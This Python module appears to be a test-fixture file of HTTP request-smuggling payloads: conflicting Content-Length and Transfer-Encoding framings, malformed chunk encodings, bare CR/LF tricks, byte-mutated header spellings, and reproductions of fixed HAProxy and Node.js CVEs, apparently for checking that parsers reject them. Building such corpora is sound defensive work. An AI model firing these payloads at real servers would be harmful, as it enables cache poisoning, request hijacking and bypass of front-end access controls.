"""Requests with another one hidden in them: the known ways to make two servers read two different things.

Each is what an attacker sends on one connection. `HIDDEN` must never reach a server as a request of its own.
The classes are those of the HTTP Garden's list, of smuggler's mutations of Transfer-Encoding, and of what
HAProxy and Node.js have had to mend.
"""

from collections.abc import Iterator, Mapping
from typing import Final

HIDDEN: Final = b"GET /hidden HTTP/1.1\r\nHost: www.example.com\r\n\r\n"
POST: Final = b"POST / HTTP/1.1\r\nHost: www.example.com\r\n"
GET: Final = b"GET / HTTP/1.1\r\nHost: www.example.com\r\n"
CHUNKS: Final = b"0\r\n\r\n" + HIDDEN
SIZED: Final = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
WHOLE: Final = b"Content-Length: %d\r\n" % len(CHUNKS)
TE: Final = b"Transfer-Encoding: chunked\r\n"


def chunked(*chunks: bytes) -> bytes:
    """A body with these bytes where chunks belong, and the hidden request behind them."""
    return POST + TE + b"\r\n" + b"".join(chunks) + HIDDEN


def field(line: bytes, body: bytes = CHUNKS) -> bytes:
    """A request whose length that line says in some way, though Content-Length says another one."""
    return POST + WHOLE + line + b"\r\n\r\n" + body


FRAMING: Final = {
    "CL.TE": POST + b"Content-Length: 5\r\n" + TE + b"\r\n" + CHUNKS,
    "TE.CL": POST + TE + b"Content-Length: 5\r\n\r\n" + CHUNKS,
    "CL.CL": POST + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN) + HIDDEN,
    "CL, CL": POST + b"Content-Length: 0, %d\r\n\r\n" % len(HIDDEN) + HIDDEN,
    "TE.TE": POST + TE + b"Transfer-Encoding: identity\r\n\r\n" + CHUNKS,
    "TE in HTTP/1.0": POST.replace(b"1.1", b"1.0") + WHOLE + TE + b"\r\n" + CHUNKS,
    "TE alone in HTTP/1.0": POST.replace(b"1.1", b"1.0") + TE + b"\r\n" + CHUNKS,
    "a GET with a body": GET + WHOLE + b"\r\n" + CHUNKS,
    "a length that overflows": POST + b"Content-Length: 1844674407370955161600\r\n\r\n" + HIDDEN,
    "a length with a sign": POST + b"Content-Length: +0\r\n\r\n" + HIDDEN,
    "a length in octal": POST + b"Content-Length: 0o10\r\n\r\n" + HIDDEN,
    "a length with an underscore": POST + b"Content-Length: 0_0\r\n\r\n" + HIDDEN,
    "a length with a blank in it": POST + b"Content-Length: 0 %d\r\n\r\n" % len(HIDDEN) + HIDDEN,
    "a length nominated by Connection": POST + WHOLE + b"Connection: content-length\r\n\r\n" + CHUNKS,
    "chunks nominated by Connection": POST + TE + b"Connection: transfer-encoding\r\n\r\n" + SIZED,
    "a blank before the first field": POST.replace(b"Host", TE + b" Host") + WHOLE + b"\r\n" + CHUNKS,
    "a field before the Host that is folded": POST + b"X: y\r\n " + TE + WHOLE + b"\r\n" + CHUNKS,
    "an upgrade to HTTP/2": GET + b"Connection: upgrade, http2-settings\r\nUpgrade: h2c\r\n\r\n",
    "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN,
    "HTTP/0.9": b"GET /\r\n\r\n" + HIDDEN,
    "an expectation": POST + WHOLE + b"Expect: 100-continue\r\n\r\n" + CHUNKS,
    "two hosts": b"GET / HTTP/1.1\r\nHost: www.example.com\r\nHost: other.example\r\n\r\n",
    "a target of another host": b"GET http://other.example/ HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
}  # fmt: skip

ENDS: Final = {
    "a head that ends with LF LF": GET + b"X: y\n\n" + HIDDEN,
    "a head that ends with CR LF LF": GET + b"X: y\r\n\n" + HIDDEN,
    "a head that ends with LF CR LF": GET + b"X: y\n\r\n" + HIDDEN,
    "a head that ends with CR CR": GET + b"X: y\r\r" + HIDDEN,
    "a field behind LF": POST + WHOLE + b"X: y\n" + TE + b"\r\n" + CHUNKS,
    "a field behind CR": POST + WHOLE + b"X: y\r" + TE + b"\r\n" + CHUNKS,
    "a field behind NUL": POST + WHOLE + b"X: y\x00" + TE + b"\r\n" + CHUNKS,
    "a bare CR before the request": b"\r" + GET + b"\r\n",
    "a bare LF before the request": b"\n" + GET + b"\r\n",
}

BODIES: Final = {
    "a size with 0x": chunked(b"0x0\r\n\r\n"),
    "a size with a sign": chunked(b"+0\r\n\r\n"),
    "a size with an underscore": chunked(b"0_0\r\n\r\n"),
    "a size in capital X": chunked(b"0X5\r\nhello\r\n0\r\n\r\n"),
    "a size that overflows 64 bits": chunked(b"10000000000000000\r\n", b"0\r\n\r\n"),
    "a size that overflows 32 bits": chunked(b"100000000\r\n", b"0\r\n\r\n"),
    "a size with a blank behind it": chunked(b"0 \r\n\r\n"),
    "a size with a blank before it": chunked(b" 0\r\n\r\n"),
    "a size line that ends with LF": chunked(b"0\n\r\n"),
    "a size line with CR in it": chunked(b"5\rX\r\nhello\r\n0\r\n\r\n"),
    "an extension that ends with LF": chunked(b"5;x\nhello\r\n0\r\n\r\n"),
    "an extension that ends with CR": chunked(b"5;x\rhello\r\n0\r\n\r\n"),
    "an extension with a chunk in it": chunked(b"5;\n0\r\n\r\n"),
    "an extension in quotes over two lines": chunked(b'5;x="\r\n0\r\n\r\n'),
    "an endless extension": chunked(b"5;" + b"x" * 20_000 + b"\r\nhello\r\n0\r\n\r\n"),
    "a chunk that ends with LF": chunked(b"5\r\nhello\n0\r\n\r\n"),
    "a chunk that ends with two bytes of any kind": chunked(b"5\r\nhelloXX0\r\n\r\n"),
    "a chunk that ends with nothing": chunked(b"5\r\nhello0\r\n\r\n"),
    "a last chunk without its empty line": chunked(b"0\r\n"),
    "a last chunk that ends with LF LF": chunked(b"0\n\n"),
    "a trailer that is folded": chunked(b"0\r\nX: y\r\n z\r\n\r\n"),
    "a trailer that frames": POST + TE + b"\r\n0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
    "a trailer that ends with LF": chunked(b"0\r\nX: y\n\r\n"),
}

MENDED: Final = {
    # HAProxy
    "CVE-2019-18277": field(b"Transfer-Encoding:\x0bchunked"),
    "CVE-2021-40346": POST + b"Content-Length0" + b"a" * 255 + b":\r\n" + WHOLE + b"\r\n" + CHUNKS,
    "CVE-2023-25725": b"POST / HTTP/1.1\r\nHost: www.example.com\r\n: x\r\n" + WHOLE + TE + b"\r\n" + CHUNKS,
    "CVE-2023-40225": POST + b"Content-Length:\r\n\r\n" + HIDDEN,
    "CVE-2023-45539": b"GET /a#/hidden HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
    # Node.js
    "CVE-2018-7159": POST + b"Content-Length: 1 2\r\n\r\n" + HIDDEN,
    "CVE-2018-12116": "GET /\u010d\u010a\u0120HTTP/1.1\r\nHost: www.example.com\r\n\r\n".encode(),
    "CVE-2020-8287": POST + TE + b"Transfer-Encoding: eee\r\n" + WHOLE + b"\r\n" + CHUNKS,
    "CVE-2021-22959": field(b"Transfer-Encoding : chunked"),
    "CVE-2021-22960": chunked(b"5;\n\n0\r\n\r\n"),
    "CVE-2022-32213": field(b"Transfer-Encoding: chunkedchunked"),
    "CVE-2022-32214": POST + b"X: y\n" + TE + WHOLE + b"\r\n" + CHUNKS,
    "CVE-2022-32215": field(b"Transfer-Encoding: chunked,\r\n identity"),
    "CVE-2022-35256": field(b"Transfer-Encoding"),
    "CVE-2023-30589": POST + WHOLE + b"X:\r" + TE + b"\r\n" + CHUNKS,
    "CVE-2019-15605": field(b"Transfer-Encoding: chunked\r\n "),
    "CVE-2025-23167": GET + b"X: y\r\n\rX" + HIDDEN,
    "CVE-2024-27982": POST + b" Content-Length: 0\r\n" + WHOLE + b"\r\n" + CHUNKS,
}

ERRATA: Final = {
    # Of RFC 9112: a bare LF may end a line of the head at most, never one of the chunked coding.
    "7633, a size": chunked(b"0\n\r\n"),
    "7633, a chunk": chunked(b"5\r\nhello\n0\r\n\r\n"),
    "7633, the last line": chunked(b"0\r\n\n"),
}

WRITTEN: Final = (
    *(b" Transfer-Encoding: chunked", b"\tTransfer-Encoding: chunked", b"Transfer-Encoding:\tchunked"),
    *(b"Transfer-Encoding\t:\tchunked", b"Transfer-Encoding : chunked", b"Transfer Encoding: chunked"),
    *(b"Transfer_Encoding: chunked", b"TransferEncoding: chunked", b"Transfer-Encoding:chunked"),
    *(b"Transfer-Encoding:\n chunked", b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding:\x0bchunked"),
    *(b"Transfer-Encoding:\r\n\x0bchunked",),
    *(b"Transfer-Encoding\n : chunked", b"Transfer-Encoding\r\n: chunked"),
    *(b"X: X\nTransfer-Encoding: chunked",),
    *(b"X: X\rTransfer-Encoding: chunked", b"X:\r\rTransfer-Encoding: chunked"),
    *(b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: chunked, cow"),
    *(b"Transfer-Encoding: cow, chunked", b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked"),
    *(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow", b"Content-Encoding: chunked"),
    *(b"Transfer-Encoding: chunk", b"TrAnSFer-EnCODinG: cHuNkeD", b"TRANSFER-ENCODING: CHUNKED"),
    *(b"Transfer-Encoding: chunked;q=1",),
    *(b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: chunked,"),
    *(b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: \xffchunked", b"Transfer-Encoding: chunked\xa0"),
    *(b"Transfer-\xc4\xb1ncoding: chunked",),
    *(b"Transfer\xadEncoding: chunked", b"Transfer-Encoding: c\xc5\xbfhunked"),
)  # fmt: skip

PLACES: Final = (
    b"Transfer-Encoding:%bchunked",
    b"Transfer-Encoding%b: chunked",
    b"%bTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked%b",
    b"X: X%bTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked%bX: X",
    b"X: X\r%bTransfer-Encoding: chunked",
    b"X: X%b\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r%bX: X",
    b"Transfer-Encoding: chunked%b\nX: X",
)
BYTES: Final = (*range(0x21), *range(0x7F, 0x100))


def mutations() -> Iterator[bytes]:
    """Transfer-Encoding, written in every way that somebody might or might not take for it."""
    for line in WRITTEN:
        yield field(line)
        yield POST + line + b"\r\n\r\n" + SIZED
    for place in PLACES:
        for byte in BYTES:
            yield field(place % bytes((byte,)))


CLASSES: Final[Mapping[str, tuple[bytes, ...]]] = {
    **{name: (data,) for group in (FRAMING, ENDS, BODIES, MENDED, ERRATA) for name, data in group.items()},
    "Transfer-Encoding in every spelling": tuple(mutations()),
}
